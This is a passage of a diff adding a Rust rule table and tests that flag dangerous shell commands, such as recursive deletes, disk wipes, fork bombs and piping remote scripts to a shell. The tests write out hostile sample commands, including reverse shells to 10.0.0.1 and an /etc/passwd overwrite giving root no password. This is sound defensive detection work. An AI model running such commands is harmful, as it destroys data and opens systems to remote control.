@@ -1,0 +1,1155 @@
+//! The risk rule table. Patterns are byte regexes in ASCII mode (`(?-u)`): a
+//! shell command's dangerous parts are ASCII, and ASCII classes keep the set
+//! small and quick to compile on every `caro history add`.
+//!
+//! Each rule has a test in this file (`rule_*`), and `everyday_commands_are_safe`
+//! guards against false alarms.
+
+use super::RiskLevel::{self, Critical, High, Moderate};
+
+/// One risk rule.
+#[derive(Debug)]
+pub struct Rule {
+    /// Stable name, used in tests and docs.
+    pub id: &'static str,
+    /// Rules about the same thing; only the most severe match of a family warns.
+    pub family: &'static str,
+    pub level: RiskLevel,
+    pub pattern: &'static str,
+    /// Stored in `safety_warnings`.
+    pub warning: &'static str,
+}
+
+/// A command word at the start of a command: after the line start, a
+/// separator, or a wrapper such as `sudo` or `xargs`.
+macro_rules! at_command {
+    ($($part:literal),+ $(,)?) => {
+        concat!(
+            r"(?-u)(?:^\s*|[;&|(`{]\s*|\b(?:sudo|doas|xargs|exec|nohup|env|command|time|watch)\s+(?:-\S+\s+)*)",
+            $($part),+
+        )
+    };
+}
+
+/// `rm` with a recursive flag, then the target (the caller's next part).
+macro_rules! rm_recursive {
+    ($target:literal) => {
+        at_command!(
+            r"rm\s+(?:-\S+\s+)*?(?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)\s+(?:-\S*\s+)*",
+            $target,
+            r#"(?:\s|$|[;&|)])"#
+        )
+    };
+}
+
+pub static RULES: &[Rule] = &[
+    // --- critical -------------------------------------------------------
+    Rule {
+        id: "rm-recursive-root",
+        family: "rm",
+        level: Critical,
+        pattern: rm_recursive!(r#"["']?/\*?["']?"#),
+        warning: "recursively deletes everything from the root directory",
+    },
+    Rule {
+        id: "rm-recursive-home",
+        family: "rm",
+        level: Critical,
+        pattern: rm_recursive!(r#"["']?(?:~|\$HOME|\$\{HOME\})/?\*?["']?"#),
+        warning: "recursively deletes your whole home directory",
+    },
+    Rule {
+        id: "rm-recursive-system-dir",
+        family: "rm",
+        level: Critical,
+        pattern: rm_recursive!(
+            r#"["']?/(?:bin|boot|dev|etc|home|lib|lib32|lib64|opt|proc|root|sbin|srv|sys|usr|var|System|Library|Applications|Users)/?\*?["']?"#
+        ),
+        warning: "recursively deletes a system directory",
+    },
+    Rule {
+        id: "rm-no-preserve-root",
+        family: "rm",
+        level: Critical,
+        pattern: at_command!(r"rm\s[^;&|]*--no-preserve-root\b"),
+        warning: "disables rm's protection of the root directory",
+    },
+    Rule {
+        id: "dd-to-disk",
+        family: "disk-write",
+        level: Critical,
+        pattern: r"(?-u)\bdd\s[^;&|]*\bof=/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|md|dm-|mapper/)",
+        warning: "dd writes straight onto a disk device, destroying what is on it",
+    },
+    Rule {
+        id: "redirect-to-disk",
+        family: "disk-write",
+        level: Critical,
+        pattern: r"(?-u)>\s*/dev/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|disk\d|rdisk\d)",
+        warning: "output redirected onto a disk device overwrites its contents",
+    },
+    Rule {
+        id: "mkfs",
+        family: "filesystem",
+        level: Critical,
+        pattern: at_command!(r"(?:mkfs(?:\.\w+)?|mke2fs|mkfs_\w+|newfs(?:_\w+)?)\b"),
+        warning: "creating a filesystem erases everything on the device",
+    },
+    Rule {
+        id: "wipe-disk",
+        family: "disk-write",
+        level: Critical,
+        pattern: at_command!(r"(?:shred|wipefs|blkdiscard)\s[^;&|]*/dev/"),
+        warning: "wipes a disk device",
+    },
+    Rule {
+        id: "fork-bomb",
+        family: "fork-bomb",
+        level: Critical,
+        pattern: r"(?-u)[\w:.]+\s*\(\)\s*\{[^}]*\|[^}]*&[^}]*\}\s*;",
+        warning: "fork bomb: spawns processes until the system stops responding",
+    },
+    Rule {
+        id: "curl-pipe-sudo-shell",
+        family: "remote-exec",
+        level: Critical,
+        pattern: r"(?-u)\b(?:curl|wget|fetch)\s[^;&|]*\|\s*sudo\s+(?:-\S+\s+)*(?:\w+=\S*\s+)*(?:(?:ba|z|k|da|fi)?sh|python[0-9.]*|perl|ruby|node)\b",
+        warning: "runs a script downloaded from the network as root, unread",
+    },
+    Rule {
+        id: "overwrite-auth-files",
+        family: "auth-files",
+        level: Critical,
+        pattern: r"(?-u)(?:>{1,2}\s*|\btee\s+(?:-a\s+)?)/etc/(?:passwd|shadow|gshadow|sudoers)\b",
+        warning: "overwrites the system's accounts or sudo rules",
+    },
+    Rule {
+        id: "sysrq-trigger",
+        family: "kernel",
+        level: Critical,
+        pattern: r"(?-u)/proc/sysrq-trigger\b",
+        warning: "sends a raw command to the kernel (can crash or reboot at once)",
+    },
+    // --- high -----------------------------------------------------------
+    Rule {
+        id: "rm-recursive-wildcard",
+        family: "rm",
+        level: High,
+        pattern: rm_recursive!(r#"["']?(?:\*|\.|\.\.|\./\*|\.\./?\*?)["']?"#),
+        warning: "recursively deletes everything in the current or parent directory",
+    },
+    Rule {
+        id: "rm-recursive-variable",
+        family: "rm",
+        level: High,
+        pattern: rm_recursive!(r#"["']?\$\{?\w+\}?/["']?\*?["']?"#),
+        warning:
+            "recursive delete of a path built from a variable: if it is empty, this deletes from /",
+    },
+    Rule {
+        id: "curl-pipe-shell",
+        family: "remote-exec",
+        level: High,
+        pattern: r"(?-u)\b(?:curl|wget|fetch)\s[^;&|]*\|\s*(?:(?:ba|z|k|da|fi)?sh\b|(?:python[0-9.]*|perl|ruby|node)(?:\s+-)?\s*(?:$|[;&|]))",
+        warning: "runs a script downloaded from the network without reading it",
+    },
+    Rule {
+        id: "shell-eval-remote",
+        family: "remote-exec",
+        level: High,
+        pattern: r#"(?-u)(?:\b(?:ba|z|k|da)?sh|\beval|\bsource|(?:^|\s)\.)\s+(?:-c\s+)?["']?(?:\$\(|<\(|`)\s*(?:curl|wget)\b"#,
+        warning: "evaluates a script downloaded from the network without reading it",
+    },
+    Rule {
+        id: "chmod-recursive-system",
+        family: "chmod",
+        level: High,
+        pattern: r#"(?-u)\bchmod\s+(?:-\S+\s+)*-[a-zA-Z]*R[a-zA-Z]*\s+(?:-\S+\s+)*\S+\s+["']?/(?:bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)?/?\*?["']?(?:\s|$|[;&|])"#,
+        warning: "recursively changes permissions of the whole system or a system directory",
+    },
+    Rule {
+        id: "chown-recursive-system",
+        family: "chown",
+        level: High,
+        pattern: r#"(?-u)\bchown\s+(?:-\S+\s+)*-[a-zA-Z]*R[a-zA-Z]*\s+(?:-\S+\s+)*\S+\s+["']?/(?:bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)?/?\*?["']?(?:\s|$|[;&|])"#,
+        warning: "recursively changes the owner of the whole system or a system directory",
+    },
+    Rule {
+        id: "partition-table",
+        family: "filesystem",
+        level: High,
+        pattern: at_command!(
+            r"(?:fdisk|sfdisk|gdisk|sgdisk|cfdisk|parted)\s+(?:-[a-km-zA-Z]\S*\s+)*/dev/"
+        ),
+        warning: "edits a disk's partition table",
+    },
+    Rule {
+        id: "mkswap-device",
+        family: "filesystem",
+        level: High,
+        pattern: at_command!(r"mkswap\s+(?:-\S+\s+)*/dev/"),
+        warning: "turns a disk device into swap, erasing it",
+    },
+    Rule {
+        id: "kill-all-processes",
+        family: "kill",
+        level: High,
+        pattern: r"(?-u)\bkill\s+(?:-(?:9|KILL|SIGKILL|s\s+KILL)\s+)?-1\s*(?:$|[;&|])",
+        warning: "kills every process you are allowed to signal",
+    },
+    Rule {
+        id: "sql-drop",
+        family: "sql",
+        level: High,
+        pattern: r"(?-u)(?i)\bdrop\s+(?:database|schema|table)\b",
+        warning: "drops a database, schema or table",
+    },
+    Rule {
+        id: "sql-truncate",
+        family: "sql",
+        level: High,
+        pattern: r"(?-u)(?i)\btruncate\s+table\b",
+        warning: "empties a table",
+    },
+    Rule {
+        id: "sql-delete-without-where",
+        family: "sql",
+        level: High,
+        pattern: r#"(?-u)(?i)\bdelete\s+from\s+[\w."`\[\]]+\s*(?:;|$|["'])"#,
+        warning: "deletes every row of a table (no WHERE clause)",
+    },
+    Rule {
+        id: "datastore-flush",
+        family: "sql",
+        level: High,
+        pattern: r"(?-u)(?i)\bflush(?:all|db)\b|\.drop(?:Database)?\(\s*\)",
+        warning: "erases a whole datastore or collection",
+    },
+    Rule {
+        id: "kubectl-delete-broad",
+        family: "kubectl",
+        level: High,
+        pattern: r"(?-u)\bkubectl\s+(?:\S+\s+)*?delete\s+(?:\S+\s+)*?(?:--all\b|--all-namespaces\b|-A\b|(?:namespaces?|ns)\b)",
+        warning: "deletes a namespace or every resource of a kind",
+    },
+    Rule {
+        id: "terraform-destroy",
+        family: "terraform",
+        level: High,
+        pattern: r"(?-u)\b(?:terraform|tofu)\s+(?:-\S+\s+)*(?:destroy\b|apply\s[^;&|]*-destroy\b)",
+        warning: "destroys all infrastructure the configuration manages",
+    },
+    Rule {
+        id: "cloud-storage-delete",
+        family: "cloud-storage",
+        level: High,
+        pattern: r"(?-u)\baws\s+s3\s+(?:rm\s[^;&|]*--recursive|rb\s[^;&|]*--force)\b|\bgsutil\s+(?:-\S+\s+)*rm\s+(?:-\S+\s+)*-[a-zA-Z]*r|\bgcloud\s+storage\s+rm\s[^;&|]*--recursive\b",
+        warning: "recursively deletes cloud storage objects or buckets",
+    },
+    Rule {
+        id: "repo-delete",
+        family: "repo-delete",
+        level: High,
+        pattern: r"(?-u)\b(?:gh|glab)\s+repo\s+delete\b",
+        warning: "deletes a hosted repository",
+    },
+    Rule {
+        id: "firewall-flush",
+        family: "firewall",
+        level: High,
+        pattern: r"(?-u)\b(?:iptables|ip6tables)\s+(?:-t\s+\w+\s+)?(?:-F|--flush)\b|\bnft\s+flush\s+ruleset\b|\bufw\s+(?:--force\s+)?(?:disable|reset)\b",
+        warning: "removes the firewall rules",
+    },
+    Rule {
+        id: "ssh-service-stop",
+        family: "ssh-service",
+        level: High,
+        pattern: r"(?-u)\bsystemctl\s+(?:stop|disable|mask)\s+(?:--now\s+)?sshd?(?:\.service)?\b|\bservice\s+sshd?\s+stop\b",
+        warning: "stops SSH: a remote session may lose its way back in",
+    },
+    Rule {
+        id: "crontab-remove",
+        family: "crontab",
+        level: High,
+        pattern: r"(?-u)\bcrontab\s+(?:-u\s+\S+\s+)?-r\b",
+        warning: "removes all your cron jobs without asking",
+    },
+    Rule {
+        id: "reverse-shell",
+        family: "reverse-shell",
+        level: High,
+        pattern: r"(?-u)\b(?:nc|ncat|netcat)\s[^;&|]*-[a-zA-Z]*[ec]\s+/bin/(?:ba|z)?sh\b|-i\s*>&\s*/dev/(?:tcp|udp)/",
+        warning: "opens a shell for a remote host (reverse shell)",
+    },
+    Rule {
+        id: "passwd-delete",
+        family: "accounts",
+        level: High,
+        pattern: r"(?-u)\bpasswd\s+(?:-\S+\s+)*-d\b",
+        warning: "removes an account's password: anyone can log in as it",
+    },
+    Rule {
+        id: "mv-to-dev-null",
+        family: "mv",
+        level: High,
+        pattern: r"(?-u)\bmv\s+(?:\S+\s+)+/dev/null\b",
+        warning: "moves files to /dev/null, destroying them",
+    },
+    Rule {
+        id: "mv-root-or-home",
+        family: "mv",
+        level: High,
+        pattern: r#"(?-u)\bmv\s+(?:-\S+\s+)*["']?(?:/|~|\$HOME)/?\*?["']?\s"#,
+        warning: "moves the root or home directory away",
+    },
+    Rule {
+        id: "find-delete-root",
+        family: "find",
+        level: High,
+        pattern: r"(?-u)\bfind\s+(?:/|~|\$HOME)/?\s[^;&|]*(?:-delete\b|-exec\s+rm\b)",
+        warning: "deletes files found anywhere under / or your home",
+    },
+    // --- moderate -------------------------------------------------------
+    Rule {
+        id: "rm-recursive",
+        family: "rm",
+        level: Moderate,
+        pattern: rm_recursive!(r"\S+"),
+        warning: "recursive delete: check the path, there is no undo",
+    },
+    Rule {
+        id: "find-delete",
+        family: "find",
+        level: Moderate,
+        pattern: r"(?-u)\bfind\s[^;&|]*(?:-delete\b|-exec\s+rm\b)",
+        warning: "deletes every file find matches",
+    },
+    Rule {
+        id: "chmod-world-writable",
+        family: "chmod",
+        level: Moderate,
+        pattern: r"(?-u)\bchmod\s+(?:-\S+\s+)*(?:0?777|[ugoa]*o[ugoa]*\+[rx]*w|a\+rwx)\b",
+        warning: "makes files writable by every user",
+    },
+    Rule {
+        id: "chmod-setuid",
+        family: "chmod-setuid",
+        level: Moderate,
+        pattern: r"(?-u)\bchmod\s+(?:-\S+\s+)*(?:[ugoa]*\+[rwxt]*s|[4-7][0-7]{3})\b",
+        warning: "sets the setuid/setgid bit: the program runs with its owner's rights",
+    },
+    Rule {
+        id: "git-force-push",
+        family: "git-push",
+        level: Moderate,
+        pattern: r"(?-u)\bgit\s+(?:-\S+\s+)*push\b[^;&|]*?\s(?:--force|-f|--mirror)(?:\s|$)|\bgit\s+push\s+(?:-\S+\s+)*\S+\s+\+\S",
+        warning: "force push rewrites the remote branch; others' commits can be lost",
+    },
+    Rule {
+        id: "git-push-delete",
+        family: "git-push",
+        level: Moderate,
+        pattern: r"(?-u)\bgit\s+push\s+(?:\S+\s+)*(?:--delete|-d)\b|\bgit\s+push\s+\S+\s+:\S",
+        warning: "deletes a branch or tag on the remote",
+    },
+    Rule {
+        id: "git-reset-hard",
+        family: "git-discard",
+        level: Moderate,
+        pattern: r"(?-u)\bgit\s+reset\s+(?:\S+\s+)*?--hard\b",
+        warning: "discards uncommitted changes",
+    },
+    Rule {
+        id: "git-clean-force",
+        family: "git-discard",
+        level: Moderate,
+        pattern: r"(?-u)\bgit\s+clean\s+(?:\S+\s+)*?-[a-zA-Z]*f",
+        warning: "deletes untracked files",
+    },
+    Rule {
+        id: "git-discard-worktree",
+        family: "git-discard",
+        level: Moderate,
+        pattern: r"(?-u)\bgit\s+(?:checkout|restore)\s+(?:--\s+)?\.(?:\s|$)",
+        warning: "discards uncommitted changes in the working tree",
+    },
+    Rule {
+        id: "git-branch-force-delete",
+        family: "git-branch",
+        level: Moderate,
+        pattern: r"(?-u)\bgit\s+branch\s+(?:\S+\s+)*?(?:-D|--delete\s+--force|-d\s+-f)\b",
+        warning: "deletes a branch even if it is not merged",
+    },
+    Rule {
+        id: "git-history-rewrite",
+        family: "git-history",
+        level: Moderate,
+        pattern: r"(?-u)\bgit\s+(?:filter-branch|filter-repo)\b|\bgit\s+stash\s+clear\b",
+        warning: "rewrites history or drops stashes for good",
+    },
+    Rule {
+        id: "docker-prune",
+        family: "docker",
+        level: Moderate,
+        pattern: r"(?-u)\bdocker\s+(?:system|volume|image|container|network|builder)\s+prune\b|\bdocker[- ]compose\s+down\s+(?:\S+\s+)*?(?:-v|--volumes)\b",
+        warning: "removes Docker data (volumes, images or containers)",
+    },
+    Rule {
+        id: "docker-privileged",
+        family: "docker-privileged",
+        level: Moderate,
+        pattern: r"(?-u)\bdocker\s+run\s[^;&|]*(?:--privileged\b|-v\s+/:/)",
+        warning: "gives a container full access to the host",
+    },
+    Rule {
+        id: "kubectl-delete",
+        family: "kubectl",
+        level: Moderate,
+        pattern: r"(?-u)\bkubectl\s+(?:\S+\s+)*?delete\b",
+        warning: "deletes cluster resources",
+    },
+    Rule {
+        id: "terraform-auto-approve",
+        family: "terraform",
+        level: Moderate,
+        pattern: r"(?-u)\b(?:terraform|tofu)\s+apply\s[^;&|]*-auto-approve\b",
+        warning: "applies infrastructure changes without showing the plan",
+    },
+    Rule {
+        id: "shutdown-reboot",
+        family: "power",
+        level: Moderate,
+        pattern: at_command!(
+            r"(?:shutdown|reboot|halt|poweroff)\b|\binit\s+[06]\b|\bsystemctl\s+(?:poweroff|reboot|halt)\b"
+        ),
+        warning: "shuts down or restarts the machine",
+    },
+    Rule {
+        id: "truncate-file",
+        family: "truncate",
+        level: Moderate,
+        pattern: r"(?-u)\btruncate\s+(?:-\S+\s+)*(?:-s\s*0|--size[= ]0)\b",
+        warning: "empties a file",
+    },
+    Rule {
+        id: "overwrite-dotfile",
+        family: "dotfile",
+        level: Moderate,
+        pattern: r"(?-u)(?:^|[^>])>\s*(?:~|\$HOME)/\.(?:bashrc|zshrc|profile|bash_profile|zprofile|ssh/authorized_keys|ssh/config)\b",
+        warning: "overwrites a shell or SSH configuration file",
+    },
+    Rule {
+        id: "clear-shell-history",
+        family: "shell-history",
+        level: Moderate,
+        pattern: r"(?-u)\bhistory\s+-c\b|>\s*(?:~|\$HOME)/\.(?:bash|zsh)_history\b",
+        warning: "erases your shell history",
+    },
+    Rule {
+        id: "publish-package",
+        family: "publish",
+        level: Moderate,
+        pattern: r"(?-u)\b(?:npm|yarn|pnpm)\s+publish\b|\bcargo\s+publish\b|\btwine\s+upload\b|\bgem\s+push\b",
+        warning: "publishes a package: a release cannot be taken back",
+    },
+    Rule {
+        id: "selinux-disable",
+        family: "selinux",
+        level: Moderate,
+        pattern: r"(?-u)\bsetenforce\s+0\b",
+        warning: "turns SELinux enforcement off",
+    },
+    Rule {
+        id: "user-delete",
+        family: "accounts",
+        level: Moderate,
+        pattern: at_command!(r"(?:userdel|deluser)\b"),
+        warning: "deletes a user account",
+    },
+    Rule {
+        id: "curl-insecure",
+        family: "tls",
+        level: Moderate,
+        pattern: r"(?-u)\b(?:curl\s(?:[^;&|]*\s)?(?:-k|--insecure)|wget\s[^;&|]*--no-check-certificate)\b",
+        warning: "turns off TLS certificate checks",
+    },
+];
+
+#[cfg(test)]
+mod tests {
+    use super::super::{assess, RiskLevel};
+    use super::RULES;
+
+    /// `rule!(name, "rule-id", Level, "cmd that fires it", ...)` makes one test
+    /// asserting each command is rated `Level` with `rule-id` among the reasons.
+    macro_rules! rule {
+        ($test:ident, $id:literal, $level:ident, $($cmd:literal),+ $(,)?) => {
+            #[test]
+            fn $test() {
+                assert!(RULES.iter().any(|r| r.id == $id), "no rule {}", $id);
+                for cmd in [$($cmd),+] {
+                    let a = assess(cmd);
+                    assert!(a.rule_ids.contains(&$id), "{cmd:?} should fire {}, got {:?}", $id, a.rule_ids);
+                    assert_eq!(a.level, RiskLevel::$level, "{cmd:?}");
+                }
+            }
+        };
+    }
+
+    rule!(
+        rule_rm_recursive_root,
+        "rm-recursive-root",
+        Critical,
+        "rm -rf /",
+        "sudo rm -rf /*",
+        "rm -r -f /",
+        "rm -fr --  /",
+        "cd /tmp && rm -rf / tmp"
+    );
+    rule!(
+        rule_rm_recursive_home,
+        "rm-recursive-home",
+        Critical,
+        "rm -rf ~",
+        "rm -rf ~/",
+        "rm -Rf $HOME",
+        "rm --recursive \"$HOME/\""
+    );
+    rule!(
+        rule_rm_recursive_system_dir,
+        "rm-recursive-system-dir",
+        Critical,
+        "sudo rm -rf /etc",
+        "rm -rf /usr/",
+        "rm -r /var/*"
+    );
+    rule!(
+        rule_rm_no_preserve_root,
+        "rm-no-preserve-root",
+        Critical,
+        "rm -rf --no-preserve-root /tmp/x"
+    );
+    rule!(
+        rule_dd_to_disk,
+        "dd-to-disk",
+        Critical,
+        "dd if=image.iso of=/dev/sdb bs=4M",
+        "sudo dd if=/dev/zero of=/dev/nvme0n1"
+    );
+    rule!(
+        rule_redirect_to_disk,
+        "redirect-to-disk",
+        Critical,
+        "cat image.img > /dev/sda",
+        "echo hi >/dev/nvme0"
+    );
+    rule!(
+        rule_mkfs,
+        "mkfs",
+        Critical,
+        "mkfs.ext4 /dev/sdb1",
+        "sudo mkfs -t xfs /dev/vdb"
+    );
+    rule!(
+        rule_wipe_disk,
+        "wipe-disk",
+        Critical,
+        "wipefs -a /dev/sdb",
+        "shred -n 3 /dev/sda"
+    );
+    rule!(
+        rule_fork_bomb,
+        "fork-bomb",
+        Critical,
+        ":(){ :|:& };:",
+        "bomb() { bomb | bomb & }; bomb"
+    );
+    rule!(
+        rule_curl_pipe_sudo_shell,
+        "curl-pipe-sudo-shell",
+        Critical,
+        "curl -fsSL https://example.com/install.sh | sudo bash",
+        "wget -qO- https://x.io/i | sudo -E sh"
+    );
+    rule!(
+        rule_overwrite_auth_files,
+        "overwrite-auth-files",
+        Critical,
+        "echo 'root::0:0::/root:/bin/sh' > /etc/passwd",
+        "echo 'me ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers"
+    );
+    rule!(
+        rule_sysrq_trigger,
+        "sysrq-trigger",
+        Critical,
+        "echo c > /proc/sysrq-trigger"
+    );
+    rule!(
+        rule_rm_recursive_wildcard,
+        "rm-recursive-wildcard",
+        High,
+        "rm -rf *",
+        "rm -rf .",
+        "rm -r ../"
+    );
+    rule!(
+        rule_rm_recursive_variable,
+        "rm-recursive-variable",
+        High,
+        "rm -rf \"$STEAMROOT/\"*",
+        "rm -rf $BUILD_DIR/"
+    );
+    rule!(
+        rule_curl_pipe_shell,
+        "curl-pipe-shell",
+        High,
+        "curl -fsSL https://get.example.sh | sh",
+        "wget -qO- https://x.io/i | bash -s -- --yes",
+        "curl https://x.io/setup.py | python3 -"
+    );
+    rule!(
+        rule_shell_eval_remote,
+        "shell-eval-remote",
+        High,
+        "sh -c \"$(curl -fsSL https://x.io/install.sh)\"",
+        "bash <(curl -s https://x.io/i)",
+        "eval \"$(wget -qO- https://x.io/env)\""
+    );
+    rule!(
+        rule_chmod_recursive_system,
+        "chmod-recursive-system",
+        High,
+        "chmod -R 777 /",
+        "sudo chmod -R 755 /etc"
+    );
+    rule!(
+        rule_chown_recursive_system,
+        "chown-recursive-system",
+        High,
+        "sudo chown -R me:me /",
+        "chown -R nobody /usr"
+    );
+    rule!(
+        rule_partition_table,
+        "partition-table",
+        High,
+        "sudo fdisk /dev/sda",
+        "parted /dev/nvme0n1 mklabel gpt"
+    );
+    rule!(
+        rule_mkswap_device,
+        "mkswap-device",
+        High,
+        "mkswap /dev/sdb2"
+    );
+    rule!(
+        rule_kill_all_processes,
+        "kill-all-processes",
+        High,
+        "kill -9 -1",
+        "kill -KILL -1"
+    );
+    rule!(
+        rule_sql_drop,
+        "sql-drop",
+        High,
+        "psql -c 'DROP DATABASE prod'",
+        "mysql -e \"drop table users\""
+    );
+    rule!(
+        rule_sql_truncate,
+        "sql-truncate",
+        High,
+        "psql -c 'TRUNCATE TABLE orders'"
+    );
+    rule!(
+        rule_sql_delete_without_where,
+        "sql-delete-without-where",
+        High,
+        "sqlite3 app.db 'DELETE FROM users;'",
+        "psql -c \"delete from sessions\""
+    );
+    rule!(
+        rule_datastore_flush,
+        "datastore-flush",
+        High,
+        "redis-cli FLUSHALL",
+        "mongo app --eval 'db.dropDatabase()'"
+    );
+    rule!(
+        rule_kubectl_delete_broad,
+        "kubectl-delete-broad",
+        High,
+        "kubectl delete namespace prod",
+        "kubectl delete pods --all",
+        "kubectl -n x delete ns staging"
+    );
+    rule!(
+        rule_terraform_destroy,
+        "terraform-destroy",
+        High,
+        "terraform destroy",
+        "tofu apply -destroy"
+    );
+    rule!(
+        rule_cloud_storage_delete,
+        "cloud-storage-delete",
+        High,
+        "aws s3 rm s3://bucket --recursive",
+        "aws s3 rb s3://bucket --force",
+        "gsutil -m rm -r gs://b"
+    );
+    rule!(
+        rule_repo_delete,
+        "repo-delete",
+        High,
+        "gh repo delete me/project --yes"
+    );
+    rule!(
+        rule_firewall_flush,
+        "firewall-flush",
+        High,
+        "sudo iptables -F",
+        "nft flush ruleset",
+        "ufw disable"
+    );
+    rule!(
+        rule_ssh_service_stop,
+        "ssh-service-stop",
+        High,
+        "sudo systemctl stop sshd",
+        "systemctl disable --now ssh"
+    );
+    rule!(rule_crontab_remove, "crontab-remove", High, "crontab -r");
+    rule!(
+        rule_reverse_shell,
+        "reverse-shell",
+        High,
+        "nc -e /bin/sh 10.0.0.1 4444",
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+    );
+    rule!(
+        rule_passwd_delete,
+        "passwd-delete",
+        High,
+        "sudo passwd -d root"
+    );
+    rule!(
+        rule_mv_to_dev_null,
+        "mv-to-dev-null",
+        High,
+        "mv important.db /dev/null"
+    );
+    rule!(
+        rule_mv_root_or_home,
+        "mv-root-or-home",
+        High,
+        "mv ~ /tmp/old-home",
+        "sudo mv / /mnt"
+    );
+    rule!(
+        rule_find_delete_root,
+        "find-delete-root",
+        High,
+        "find / -name '*.log' -delete",
+        "find ~ -type f -exec rm {} +"
+    );
+    rule!(
+        rule_rm_recursive,
+        "rm-recursive",
+        Moderate,
+        "rm -rf node_modules",
+        "rm -r build/",
+        "sudo rm -rf /tmp/cache"
+    );
+    rule!(
+        rule_find_delete,
+        "find-delete",
+        Moderate,
+        "find . -name '*.pyc' -delete"
+    );
+    rule!(
+        rule_chmod_world_writable,
+        "chmod-world-writable",
+        Moderate,
+        "chmod 777 uploads",
+        "chmod o+w file"
+    );
+    rule!(
+        rule_chmod_setuid,
+        "chmod-setuid",
+        Moderate,
+        "chmod u+s /usr/local/bin/tool",
+        "chmod 4755 tool"
+    );
+    rule!(
+        rule_git_force_push,
+        "git-force-push",
+        Moderate,
+        "git push --force",
+        "git push -f origin main",
+        "git push origin +main"
+    );
+    rule!(
+        rule_git_push_delete,
+        "git-push-delete",
+        Moderate,
+        "git push origin --delete old",
+        "git push origin :old"
+    );
+    rule!(
+        rule_git_reset_hard,
+        "git-reset-hard",
+        Moderate,
+        "git reset --hard",
+        "git reset HEAD~3 --hard"
+    );
+    rule!(
+        rule_git_clean_force,
+        "git-clean-force",
+        Moderate,
+        "git clean -fdx",
+        "git clean -d -f"
+    );
+    rule!(
+        rule_git_discard_worktree,
+        "git-discard-worktree",
+        Moderate,
+        "git checkout -- .",
+        "git restore ."
+    );
+    rule!(
+        rule_git_branch_force_delete,
+        "git-branch-force-delete",
+        Moderate,
+        "git branch -D feature"
+    );
+    rule!(
+        rule_git_history_rewrite,
+        "git-history-rewrite",
+        Moderate,
+        "git filter-branch --tree-filter 'rm x' HEAD",
+        "git stash clear"
+    );
+    rule!(
+        rule_docker_prune,
+        "docker-prune",
+        Moderate,
+        "docker system prune -a",
+        "docker compose down -v"
+    );
+    rule!(
+        rule_docker_privileged,
+        "docker-privileged",
+        Moderate,
+        "docker run --privileged -it ubuntu",
+        "docker run -v /:/host alpine"
+    );
+    rule!(
+        rule_kubectl_delete,
+        "kubectl-delete",
+        Moderate,
+        "kubectl delete pod web-1"
+    );
+    rule!(
+        rule_terraform_auto_approve,
+        "terraform-auto-approve",
+        Moderate,
+        "terraform apply -auto-approve"
+    );
+    rule!(
+        rule_shutdown_reboot,
+        "shutdown-reboot",
+        Moderate,
+        "sudo reboot",
+        "shutdown -h now",
+        "systemctl poweroff"
+    );
+    rule!(
+        rule_truncate_file,
+        "truncate-file",
+        Moderate,
+        "truncate -s 0 app.log"
+    );
+    rule!(
+        rule_overwrite_dotfile,
+        "overwrite-dotfile",
+        Moderate,
+        "echo 'x' > ~/.bashrc"
+    );
+    rule!(
+        rule_clear_shell_history,
+        "clear-shell-history",
+        Moderate,
+        "history -c",
+        "cat /dev/null > ~/.bash_history"
+    );
+    rule!(
+        rule_publish_package,
+        "publish-package",
+        Moderate,
+        "npm publish",
+        "cargo publish --allow-dirty"
+    );
+    rule!(
+        rule_selinux_disable,
+        "selinux-disable",
+        Moderate,
+        "sudo setenforce 0"
+    );
+    rule!(
+        rule_user_delete,
+        "user-delete",
+        Moderate,
+        "sudo userdel -r bob"
+    );
+    rule!(
+        rule_curl_insecure,
+        "curl-insecure",
+        Moderate,
+        "curl -k https://internal",
+        "wget --no-check-certificate https://x"
+    );
+
+    #[test]
+    fn every_rule_has_a_test() {
+        let source = include_str!("rules.rs");
+        for rule in RULES {
+            let needle = format!("\"{}\",", rule.id);
+            assert!(
+                source.matches(&needle).count() >= 2,
+                "rule {} has no rule!(...) test",
+                rule.id
+            );
+        }
+        assert!(RULES.len() >= 40, "the issue asks for at least 40 rules");
+    }
+
+    #[test]
+    fn rule_ids_are_unique() {
+        let mut ids: Vec<_> = RULES.iter().map(|r| r.id).collect();
+        ids.sort_unstable();
+        ids.dedup();
+        assert_eq!(ids.len(), RULES.len());
+    }
+
+    #[test]
+    fn a_family_warns_once_at_its_highest_level() {
+        let a = assess("rm -rf /");
+        assert_eq!(a.level, RiskLevel::Critical);
+        assert_eq!(a.rule_ids, vec!["rm-recursive-root"]);
+        assert_eq!(a.warnings.len(), 1);
+        let a = assess("curl -s https://x.io | sudo bash");
+        assert_eq!(a.rule_ids, vec!["curl-pipe-sudo-shell"]);
+    }
+
+    #[test]
+    fn several_families_add_up() {
+        let a = assess("git reset --hard && git push --force");
+        assert_eq!(a.level, RiskLevel::Moderate);
+        assert_eq!(a.warnings.len(), 2);
+    }
+
+    /// Everyday commands: none may raise a warning.
+    pub(crate) const EVERYDAY: &[&str] = &[
+        "ls",
+        "ls -la",
+        "ll",
+        "cd ..",
+        "cd ~/projects",
+        "pwd",
+        "clear",
+        "exit",
+        "history",
+        "history | grep ssh",
+        "git status",
+        "git diff",
+        "git diff --staged",
+        "git add .",
+        "git add -p",
+        "git commit -m \"fix: handle empty input\"",
+        "git commit --amend --no-edit",
+        "git push",
+        "git push origin main",
+        "git push -u origin feature/login",
+        "git push --force-with-lease",
+        "git pull --rebase",
+        "git fetch --all --prune",
+        "git log --oneline --graph",
+        "git checkout -b feature",
+        "git checkout main",
+        "git switch main",
+        "git stash",
+        "git stash pop",
+        "git rebase -i HEAD~3",
+        "git merge main",
+        "git branch",
+        "git branch -d merged-feature",
+        "git tag v1.0.0",
+        "git clean -n",
+        "git reset --soft HEAD~1",
+        "git restore --staged file.rs",
+        "git rm --cached secrets.txt",
+        "git remote -v",
+        "cargo build",
+        "cargo build --release",
+        "cargo test",
+        "cargo run -- --help",
+        "cargo clippy --all-targets",
+        "cargo fmt",
+        "cargo install ripgrep",
+        "cargo add serde --features derive",
+        "rustup update",
+        "npm install",
+        "npm ci",
+        "npm run dev",
+        "npm test",
+        "yarn",
+        "pnpm install",
